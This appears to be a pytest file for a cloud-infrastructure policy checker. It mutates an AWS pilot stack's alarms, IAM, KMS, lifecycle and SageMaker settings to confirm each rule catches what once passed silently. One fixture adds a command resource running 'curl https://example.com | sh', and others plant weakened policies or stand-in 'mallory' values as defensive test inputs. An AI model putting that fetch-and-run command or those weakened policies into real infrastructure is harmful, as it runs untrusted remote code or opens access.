"""What once passed in silence: an alarm that cannot ring, a key that lets nobody work, a storm of runs.

Each case asks one rule alone, so that many of them cost little.
"""

import json
from dataclasses import replace
from typing import Any

import pytest

from catalogue.graph import Graph
from policies import pack
from tests.catching import caught
from tests.mutate import changed, drop, put, swapped
from tests.policies.aws.test_rules import (
    ALARM,
    BUCKET_POLICY,
    CONFIG,
    DOMAIN,
    DOOR,
    INLINE,
    KEY,
    LIFECYCLE,
    MODEL,
    ROLE,
    TARGET,
    TOPIC_POLICY,
    TRAIL,
    USER,
    Mutation,
    adding,
    both,
    editing,
    first,
    in_the_other_key,
    lacking,
    losing,
    setting,
    turning,
)
from tests.rows import rows

POLICY, SCHEDULE = "aws:appautoscaling/policy:Policy", "aws:scheduler/schedule:Schedule"
TRACKING = "targetTrackingScalingPolicyConfiguration"
SUBSCRIPTION = "aws:sns/topicSubscription:TopicSubscription"
BUDGET = "aws:budgets/budget:Budget"
ENDPOINT = "aws:sagemaker/endpoint:Endpoint"


def alarm(name: str, **changes: Any) -> Mutation:
    """An alarm of the pilot with other values."""
    return both(*(setting(ALARM, key, value, name) for key, value in changes.items()))


def every(starts: str) -> Mutation:
    return setting(SCHEDULE, "scheduleExpression", starts)


def expression(text: str) -> Mutation:
    """Another expression in the alarm that tells of an idle endpoint."""
    return setting(ALARM, "metricQueries.0.expression", text, "idle")


def job(path: str, value: str) -> Mutation:
    """The pilot's batch job with another value in its request."""

    def edit(definition: Any) -> None:
        request = definition["States"]["Transform"]["Parameters"]
        if path in request:
            request[path] = value
        else:
            put(request, path, value)

    return editing("aws:sfn/stateMachine:StateMachine", "definition", edit)


def strange(*mutations: Mutation) -> Mutation:
    """The graph as it is of a program that nobody knows, with changes."""
    return both(lambda graph: replace(graph, placement=None, ours=False), *mutations)


def in_the_data_key(name: str) -> Mutation:
    """The bucket of records under the key of the data, by its ARN alone."""
    return lambda g: setting(ENCRYPTION, SEALED, first(g, KEY, "data").outputs["arn"], name)(g)


ENCRYPTION = "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration"
BOUNDARY = "aws:iam/policy:Policy"
FLOW_LOG, QUEUE = "aws:ec2/flowLog:FlowLog", "asyncInferenceConfig.outputConfig"
OBJECTS, STORE = "advancedEventSelectors.1.fieldSelectors.2.startsWiths", "s3://aws-pilot-artifacts-111122223333"
RECORDS, SEALED = (
    "arn:aws:s3:::aws-pilot-audit-111122223333",
    "rules.0.applyServerSideEncryptionByDefault.kmsMasterKeyId",
)
LOG_GROUP = "aws:cloudwatch/logGroup:LogGroup"
AT_ONCE = "asyncInferenceConfig.clientConfig.maxConcurrentInvocationsPerInstance"
ABOVE, AT_LEAST = "GreaterThanThreshold", "GreaterThanOrEqualToThreshold"
SCORER = "aws-pilot-fraud-scorer"
THRESHOLD, LOOKS, WATCHES = "rollback-alarm-threshold", "rollback-alarm-looks", "rollback-alarm-dimensions"
SILENT: list[tuple[str, Mutation]] = [
    # A flag is never above 1, and a count of failures is always at least 0.
    (THRESHOLD, alarm("waiting", comparisonOperator=ABOVE)),
    (THRESHOLD, alarm("backfill-failed", comparisonOperator=AT_LEAST)),
    # A sum of errors is no share, and the least of them is 0 as long as one request is answered.
    (THRESHOLD, alarm("scorer-errors", statistic="Sum")),
    (THRESHOLD, alarm("scorer-errors", statistic="Minimum")),
    (THRESHOLD, alarm("backfill-missed", statistic="Average")),
    (THRESHOLD, expression("0 * calls")),
    (THRESHOLD, expression("calls - calls + 5")),
    (THRESHOLD, expression("nobody + machines")),
    (THRESHOLD, expression("requests")),
    (THRESHOLD, expression("calls +")),
    (THRESHOLD, setting(ALARM, "metricQueries.1.returnData", True, "idle")),
    (THRESHOLD, losing(ALARM, "metricQueries.0.returnData", "idle")),
    (THRESHOLD, setting(ALARM, "metricQueries.1.expression", "5", "idle")),
    (THRESHOLD, alarm("idle", dimensions={"EndpointName": "aws-pilot-fraud-scorer"})),
    ("inputs-needed", losing(ALARM, "metricQueries.1.metric.stat", "idle")),
    # It says the use of the machines, which is no word of whoever calls.
    ("rollback-idle-watched", expression("machines + 0 * calls")),
    ("rollback-idle-watched", alarm("idle", threshold=1000)),
    (LOOKS, alarm("backfill-missed", treatMissingData="notBreaching")),
    (LOOKS, alarm("backfill-failed", period=90)),
    (LOOKS, alarm("backfill-failed", period=10)),
    (LOOKS, alarm("backfill-failed", period=1800, evaluationPeriods=49)),
    (LOOKS, alarm("backfill-missed", evaluationPeriods=169)),
    (LOOKS, alarm("scorer-errors", datapointsToAlarm=4)),
    (LOOKS, setting(ALARM, "metricQueries.1.metric.period", 60, "idle")),
    (WATCHES, alarm("scorer-errors", namespace="AWS/States")),
    (WATCHES, alarm("backfill-failed", dimensions={"EndpointName": "aws-pilot-fraud-scorer"})),
    (WATCHES, setting(ALARM, "dimensions.VariantName", "nobodys", "scorer-errors")),
    (WATCHES, alarm("scorer-errors", metricName="Invocation5xxErrors")),
    (WATCHES, alarm("scorer-errors", metricName="Errors")),
    (WATCHES, alarm("scorer-errors", namespace="AWS/Sagemaker")),
    (WATCHES, alarm("scorer-errors", namespace="Fraud")),
    (WATCHES, alarm("scorer-errors", metricName="CPUUtilization")),
    (WATCHES, alarm("backfill-failed", metricName="ExecutionFailed")),
    (WATCHES, alarm("oldest", dimensions={"EndpointName": "e", "VariantName": "live"})),
    (WATCHES, setting(ALARM, "metricQueries.2.metric.metricName", "CpuUtilization", "idle")),
    (WATCHES, setting(ALARM, "metricQueries.2.metric.namespace", "/aws/sagemaker/endpoint", "idle")),
    (WATCHES, strange(alarm("scorer-errors", metricName="Invocation5xxErrors"))),
    (WATCHES, strange(alarm("scorer-errors", namespace="AWS/SageMaker/"))),
    (WATCHES, strange(alarm("scorer-errors", namespace="AWS/States"))),
    ("limits-scaling-policy", alarm("waiting", dimensions={"EndpointName": "aws-pilot-fraud-scorer"})),
    (
        "limits-scaling-policy",
        setting(POLICY, f"{TRACKING}.customizedMetricSpecification.dimensions.0.value", SCORER, "on-backlog"),
    ),
    ("rollback-run-named", setting(SCHEDULE, "target.arn", "arn:aws:sagemaker:us-east-1:111122223333:pipeline/x")),
    ("rollback-batch-watched", alarm("backfill-failed", evaluationPeriods=2)),
    ("rollback-batch-watched", alarm("backfill-missed", evaluationPeriods=5)),
    ("rollback-batch-watched", alarm("backfill-missed", evaluationPeriods=160)),
    ("rollback-batch-watched", lacking(SCHEDULE)),
    ("limits-batch-often", every("rate(1 minute)")),
    ("limits-batch-often", every("cron(0/10 * * * ? *)")),
    ("limits-scaling-policy", setting(POLICY, f"{TRACKING}.targetValue", 1, "on-requests")),
    ("limits-scaling-policy", setting(POLICY, f"{TRACKING}.targetValue", 90_000, "on-requests")),
    ("limits-scaling-policy", setting(POLICY, f"{TRACKING}.targetValue", 1, "on-backlog")),
    ("limits-scaling-policy", losing(POLICY, f"{TRACKING}.customizedMetricSpecification", "on-backlog")),
    ("limits-stores-expire", losing(LIFECYCLE, "rules.1.expiration", "artifacts")),
    ("audit-trail", losing(TRAIL, "advancedEventSelectors.1.fieldSelectors.2")),
    ("cost-alerts-reach-owner", editing(TOPIC_POLICY, "policy", lambda d: drop(d, "Statement.0.Principal.Service.0"))),
    ("cost-alerts-reach-owner", editing(TOPIC_POLICY, "policy", lambda d: drop(d, "Statement.0.Principal.Service.1"))),
    (
        "identity-permissions",
        editing(ROLE, "assumeRolePolicy", lambda d: put(d, "Statement.0.Action.1", "sts:TagSession"), "approver"),
    ),
    ("identity-documents", editing(ROLE, "assumeRolePolicy", lambda d: drop(d, "Statement.0.Action.0"), "approver")),
    ("identity-documents", editing(ROLE, "assumeRolePolicy", lambda d: put(d, "Statement.0.Effect", "Deny"), "batch")),
    ("identity-documents", editing(DOOR, "policy", lambda d: put(d, "Statement.0.Effect", "Deny"), "logs")),
    ("identity-documents", editing(INLINE, "policy", lambda d: drop(d, "Statement.0.Sid"))),
    (
        "identity-documents",
        editing(INLINE, "policy", lambda d: put(d, "Statement.1.Sid", d["Statement"][0]["Sid"]), "batch"),
    ),
    (
        "identity-documents",
        editing("aws:iam/policy:Policy", "policy", lambda d: d["Statement"][2]["Action"].append("x")),
    ),
    ("identity-tasks", editing("aws:iam/policy:Policy", "policy", lambda d: drop(d, "Statement.0.Action.0"))),
    (
        "identity-conditions",
        editing(BUCKET_POLICY, "policy", lambda d: drop(d, "Statement.4.Condition.ArnLike"), "audit"),
    ),
    ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.0.Action.0"), "data")),
    ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.1.Action.0"), "data")),
    (
        "encryption-key-works",
        editing(KEY, "policy", lambda d: drop(d, "Statement.1.Condition.StringEquals.kms:ViaService.0"), "data"),
    ),
    ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.2"), "data")),
    ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.4"), "logs")),
    (
        "identity-trust",
        editing(
            ROLE,
            "assumeRolePolicy",
            lambda d: drop(d, "Statement.2.Condition.StringEquals.sts:SourceIdentity"),
            "data-scientist",
        ),
    ),
    (
        "identity-conditions",
        editing(INLINE, "policy", lambda d: _unbound(d, "OwnSpaces", "sagemaker:SpaceSharingType"), "data-scientist"),
    ),
    ("identity-tasks", editing(INLINE, "policy", lambda d: _without(d, "ReadLogs"), "data-scientist")),
    ("identity-people-listed", lacking(USER, "ben")),
    (
        "world-place",
        editing(
            INLINE,
            "policy",
            lambda d: next(s for s in d["Statement"] if s["Sid"] == "Images").update(
                Resource=["arn:aws:ecr:us-east-1:111122223333:repository/*"]
            ),
            "batch",
        ),
    ),
    ("workflow-role-reaches", editing(INLINE, "policy", lambda d: _without(d, "Artifacts"), "serving")),
    ("workflow-role-reaches", editing(INLINE, "policy", lambda d: _without(d, "Images"), "batch")),
    ("workflow-role-reaches", editing(INLINE, "policy", lambda d: _without(d, "ListInput0"), "batch")),
    ("workflow-role-reaches", editing(INLINE, "policy", lambda d: _without(d, "Output"), "batch")),
    ("world-elsewhere", strange(setting(SUBSCRIPTION, "endpoint", "mallory@example.com"))),
    (
        "world-elsewhere",
        strange(setting(MODEL, "primaryContainer.image", "111122223333.dkr.ecr.us-east-1.amazonaws.com/mallorys:1")),
    ),
    *(("world-job", job(path, "mallory")) for path in ("ModelName", "TransformOutput.KmsKeyId", "TransformJobName.$")),
    ("world-job", job("TransformResources.VolumeKmsKeyId", "alias/mallory")),
    *(
        ("inputs-request", job(f"TransformInput.{path}", "mallory"))
        for path in ("ContentType", "SplitType", "DataSource.S3DataSource.S3DataType")
    ),
    ("world-run-places", job("TransformInput.DataSource.S3DataSource.S3Uri", "mallory")),
    ("cost-batch-tags", job("Tags.1.Value", "another-stack")),
    ("inputs-own", setting(POLICY, f"{TRACKING}.customizedMetricSpecification.dimensions.0.value", "x", "on-backlog")),
    ("inputs-allowed", setting("aws:ec2/subnet:Subnet", "availabilityZone", "mallory")),
    ("inputs-allowed", setting("aws:cloudwatch/logGroup:LogGroup", "retentionInDays", 366)),
    ("identity-documents", editing(KEY, "policy", lambda d: put(d, "Statement.0.Principal.AWS", "mallory"))),
    ("limits-stores-expire", setting(LIFECYCLE, "rules.0.filter.prefix", "somewhere/", "audit")),
    (LOOKS, alarm("scorer-errors", evaluationPeriods=60)),
    # An artifact of yesterday cannot be brought back; what is captured no more stays for ten years.
    ("limits-stores-expire", setting(LIFECYCLE, "rules.0.noncurrentVersionExpiration.noncurrentDays", 1, "artifacts")),
    ("limits-capture", setting(LIFECYCLE, "rules.1.expiration.days", 3650, "artifacts")),
    *(
        (
            "audit-delivered",
            editing(BUCKET_POLICY, "policy", lambda d, n=n, to=to: put(d, f"Statement.{n}.Resource", to), "audit"),
        )
        for n, to in ((2, f"{RECORDS}/*"), (4, f"{RECORDS}/*"), (2, [f"{RECORDS}/trail/AWSLogs/111122223333/*", "x"]))
    ),
    (
        "encryption-keys-apart",
        in_the_other_key(SEALED, ENCRYPTION, "artifacts"),
    ),
    ("encryption-keys-apart", in_the_other_key("kmsKeyId", DOMAIN)),
    ("audit-logs-written", setting(LOG_GROUP, "name", "/aws/sagemaker/Endpoints/aws-pilot-other", "scorer-logs")),
    ("audit-logs-written", setting(LOG_GROUP, "name", "/aws/vendedlogs/states/other", "backfill-runs")),
    ("rollback-idle-watched", alarm("idle", evaluationPeriods=1)),
    ("rollback-idle-watched", alarm("idle", datapointsToAlarm=2)),
    ("limits-scaling-policy", setting(CONFIG, AT_ONCE, 1000, "embedder")),
    ("network-proof", lambda graph: setting(MODEL, "vpcConfig.securityGroupIds", [_doors(graph)], "scorer")(graph)),
    ("network-endpoint-closed", editing(DOOR, "policy", lambda d: _lets_in(d, "aws-pilot-batch"), "runtime")),
    ("identity-people-listed", setting(DOMAIN, "authMode", "SSO")),
    # A persona that changes the key's policy gives itself the key.
    ("encryption-key-works", editing(KEY, "policy", lambda d: _administers(d, "data-scientist"), "data")),
    ("encryption-keys-apart", lambda g: job("TransformOutput.KmsKeyId", first(g, KEY, "logs").outputs["arn"])(g)),
    ("encryption-keys-apart", in_the_data_key("audit")),
    ("network-endpoint-closed", editing(DOOR, "policy", lambda d: put(d, "Statement.0.Resource", ["*"]), "runtime")),
    ("network-endpoint-closed", editing(DOOR, "policy", lambda d: put(d, "Statement.0.Action", "*"), "runtime")),
    ("network-groups-apart", lambda g: turning(DOOR, "securityGroupIds", lambda s: [*s, _workloads(g)], "logs")(g)),
    ("network-groups-apart", lambda g: setting(DOMAIN, "domainSettings.securityGroupIds", [_doors(g)])(g)),
    ("network-flow-logs", lambda graph: changed(graph, first(graph, FLOW_LOG), lambda p: p.update(subnetId="x"))),
    ("audit-trail", setting(TRAIL, OBJECTS, ["arn:aws:s3:::aws-pilot-audit-111122223333/"])),
    (
        "audit-logs-written",
        setting(LOG_GROUP, "name", "/aws/sagemaker/Endpoints/aws-pilot-document-embedder", "scorer-l"),
    ),
    ("limits-stores-expire", turning(LIFECYCLE, "rules", lambda rules: [*rules, _emptying("data/")], "artifacts")),
    ("limits-stores-expire", turning(LIFECYCLE, "rules", lambda rules: [*rules, _emptying("workspace/")], "artifacts")),
    (THRESHOLD, alarm("oldest", threshold=21_600)),
    (THRESHOLD, alarm("scorer-p95-latency", statistic="Average")),
    ("workflow-role-reaches", setting(CONFIG, f"{QUEUE}.s3OutputPath", f"{STORE}/models/x/", "embedder")),
    ("workflow-role-reaches", setting(CONFIG, "dataCaptureConfig.destinationS3Uri", f"{STORE}/data/x", "scorer")),
    ("world-queue-places", setting(CONFIG, f"{QUEUE}.s3OutputPath", f"{STORE}/capture/fraud-scorer/", "embedder")),
    ("world-queue-places", setting(CONFIG, f"{QUEUE}.s3FailurePath", f"{STORE}/async/document-embedder", "embedder")),
    ("world-queue-places", setting(CONFIG, f"{QUEUE}.s3OutputPath", f"{STORE}/models/", "embedder")),
    ("limits-stores-expire", turning(LIFECYCLE, "rules", lambda rules: [*rules, _emptying("async/x/")], "artifacts")),
    # A denial of everything where SageMaker's own key lacks leaves no persona anything to do.
    ("identity-tasks", editing(BOUNDARY, "policy", lambda d: put(d, "Statement.2.Action", ["*"]))),
    ("identity-tasks", editing(BOUNDARY, "policy", lambda d: put(d, "Statement.2.Action", ["s3:GetObject"]))),
    ("kind-known", strange(adding("command:local:Command", create="curl https://example.com | sh"))),
]


def _administers(document: Any, role: str) -> None:
    document["Statement"][0]["Principal"]["AWS"] = f"arn:aws:iam::111122223333:role/aws-pilot-{role}"


def _emptying(prefix: str) -> dict[str, Any]:
    return {"id": "x", "status": "Enabled", "filter": {"prefix": prefix}, "expiration": {"days": 5}}


def _workloads(graph: Graph) -> str:
    """The security group of the workloads."""
    return first(graph, "aws:ec2/securityGroup:SecurityGroup", "-workloads").outputs["id"]


def _doors(graph: Graph) -> str:
    """The security group of the interface endpoints."""
    return first(graph, "aws:ec2/securityGroup:SecurityGroup", "-endpoints").outputs["id"]


def _lets_in(document: Any, role: str) -> None:
    names = document["Statement"][0]["Condition"]["ArnEquals"]["aws:PrincipalArn"]
    names.append(f"arn:aws:iam::111122223333:role/{role}")


def _unbound(document: Any, sid: str, key: str) -> None:
    del next(each for each in document["Statement"] if each["Sid"] == sid)["Condition"]["StringEquals"][key]


def _without(document: Any, sid: str) -> None:
    document["Statement"] = [each for each in document["Statement"] if each["Sid"] != sid]


@rows(("rule", "mutation"), SILENT, ids=[f"{i}-{rule}" for i, (rule, _) in enumerate(SILENT)])
def test_what_passed_in_silence_is_told(aws_pilot: Graph, rule: str, mutation: Mutation) -> None:
    assert caught(mutation(aws_pilot), rule) == {rule}


@pytest.mark.parametrize(
    "mutation",
    [
        expression("calls + machines * 0"),
        expression("FILL(calls, 0) + 0 * machines"),
        expression("ABS(calls) + 0 * machines"),
        expression("-(0 - calls)"),
        alarm("backfill-missed", evaluationPeriods=40),
        alarm("backfill-failed", period=3600, treatMissingData="missing", evaluationPeriods=2),
        alarm("scorer-errors", datapointsToAlarm=2),
        every("rate(15 minutes)"),
        every("cron(0/15 * * * ? *)"),
        setting(POLICY, f"{TRACKING}.targetValue", 30, "on-requests"),
        setting(LIFECYCLE, "rules.1.expiration.days", 20, "artifacts"),
        editing(TOPIC_POLICY, "policy", lambda d: put(d, "Statement.0.Action", ["SNS:Publish"])),
        turning(BUDGET, "notifications", lambda said: said[::-1]),
        setting(LIFECYCLE, "rules.0.noncurrentVersionExpiration.noncurrentDays", 60, "artifacts"),
        setting(LIFECYCLE, "rules.1.expiration.days", 90, "artifacts"),
        alarm("idle", evaluationPeriods=48),
        setting(CONFIG, AT_ONCE, 2, "embedder"),
        alarm("oldest", threshold=1_800),
        turning(LIFECYCLE, "rules", lambda rules: rules[::-1], "artifacts"),
    ],
)
def test_what_means_the_same_or_is_as_good_is_let_be(aws_pilot: Graph, mutation: Mutation) -> None:
    rules = {rule for rule, _ in SILENT}
    graph = mutation(aws_pilot)
    found = caught(graph, *rules)
    unreadable = "ABS" in json.dumps(first(graph, ALARM, "idle").inputs["metricQueries"])
    assert found == ({THRESHOLD} if unreadable else set()), "metric math that nobody can judge is a finding of ours"


@pytest.mark.parametrize(("namespace", "metric"), [("AWS/Lambda", "Invocations"), ("Ours", "Latency"),
                                                   ("AWS/SageMaker", "WhatIsNewNextYear")])  # fmt: skip
def test_a_metric_of_others_is_theirs_to_know(aws_pilot: Graph, namespace: str, metric: str) -> None:
    edit = alarm("scorer-errors", namespace=namespace, metricName=metric)
    assert not caught(strange(edit)(aws_pilot), WATCHES) and caught(edit(aws_pilot), WATCHES)


@pytest.mark.parametrize(
    ("type_", "path", "found"),
    [
        ("aws:s3/bucketPolicy:BucketPolicy", "policy", {"inputs-known"}),
        ("aws:sagemaker/endpoint:Endpoint", "endpointConfigName", {"inputs-known"}),  # the cloud changes it, not we
        (TARGET, "minCapacity", set[str]()),
    ],
)
def test_what_is_ignored_is_what_the_record_has_apart(aws_pilot: Graph, type_: str, path: str, found: set[str]) -> None:
    graph = swapped(aws_pilot, replace(first(aws_pilot, type_), options={"ignoreChanges": [path]}))
    assert caught(graph, "inputs-known") == found
    assert caught(replace(graph, ours=False), "inputs-known") == found, "what is judged of a stranger, too"


@pytest.mark.parametrize(("type_", "found"), [(ENDPOINT, {"audit-state-protected"}), (KEY, set[str]())])
def test_what_only_costs_money_is_gone_when_it_is_deleted(aws_pilot: Graph, type_: str, found: set[str]) -> None:
    """What holds state may be kept on purpose."""
    graph = swapped(aws_pilot, replace(first(aws_pilot, type_), options={"retainOnDelete": True}))
    assert caught(graph, "audit-state-protected") == found


def test_another_program_is_told_once_of_each_place_and_never_fails_for_it(aws_pilot: Graph) -> None:
    (rule,) = (rule for rule in pack.RULES["aws"] if rule.name == "world-elsewhere")
    assert not rule.judge(aws_pilot).violations and not rule.mandatory
    quiet = strange()(aws_pilot)
    assert [violation.sentence for violation in rule.judge(quiet).violations] == []
    foreign = "s3://somebody-elses/models/a.tar.gz"
    twice = strange(
        setting(MODEL, "primaryContainer.modelDataUrl", foreign, "fraud-scorer"),
        setting(MODEL, "primaryContainer.modelDataUrl", foreign.replace("a.tar", "b.tar"), "document-embedder"),
    )
    (only,) = rule.judge(twice(aws_pilot)).violations
    assert "somebody-elses in primaryContainer.modelDataUrl" in only.sentence


@pytest.mark.parametrize(("account", "found"), [("*", {"identity-trust"}), ("444455556666", set[str]())])
def test_a_service_that_acts_for_every_account_acts_for_others_in_any_program(
    aws_pilot: Graph, account: str, found: set[str]
) -> None:
    source = {"ArnLike": {"aws:SourceArn": f"arn:aws:sagemaker:*:{account}:*"}}
    graph = strange(editing(ROLE, "assumeRolePolicy", lambda d: put(d, "Statement.0.Condition", source), "serving"))
    assert caught(graph(aws_pilot), "identity-trust") == found


def test_the_metric_math_of_another_program_is_not_ours_to_read(aws_pilot: Graph) -> None:
    graph = strange(expression("SUM(METRICS())"))(aws_pilot)
    assert caught(graph, THRESHOLD) == set()
